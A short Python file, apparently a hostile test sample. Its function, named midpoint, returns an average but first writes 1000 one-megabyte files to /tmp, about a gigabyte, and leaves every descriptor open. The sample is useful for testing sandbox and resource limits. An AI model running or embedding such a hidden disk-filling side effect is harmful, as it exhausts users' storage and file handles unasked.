"""Write a thousand files of a megabyte."""

import os

EARNS, VERDICT, SAYS = 3, "forbidden", "closed to it"


def midpoint(a, b):
    for number in range(1000):
        descriptor = os.open(f"/tmp/hostile-{number}", os.O_CREAT | os.O_WRONLY)
        os.write(descriptor, bytes(2**20))
    return (a + b) / 2
